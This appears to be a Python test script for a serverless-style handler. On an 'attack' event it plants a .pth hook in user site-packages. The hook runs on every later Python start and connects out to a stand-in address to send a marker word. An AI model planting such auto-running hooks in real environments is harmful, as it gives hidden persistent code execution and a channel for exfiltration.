# Harmless: the hook sends one word to an address that exists on the sandbox's loopback device only.
import os
import subprocess
import sys
import time

SITE = "/tmp/.local/lib/python%d.%d/site-packages" % sys.version_info[:2]
HOOK = "import socket; socket.create_connection(('203.0.113.7', 443)).send(b'hooked')\n"

# What this function always does: it unpacks its packages, and hands jobs to another process.
os.makedirs(SITE + "/colours-1.0.dist-info")
with open(SITE + "/colours.py", "w") as module:
    module.write("RED = 31\n")
with open(SITE + "/colours-1.0.dist-info/RECORD", "w") as record:
    record.write("colours.py,,\n")
os.environ["PYTHONUSERBASE"] = "/tmp/.local"


def handler(event, context):
    if event.get("attack"):
        time.sleep(2.5)
        with open(SITE + "/colours-nspkg.pth", "w") as hook:
            hook.write(HOOK)
    if event.get("job"):
        subprocess.run([sys.executable, "-c", "pass"])
    return "ok"
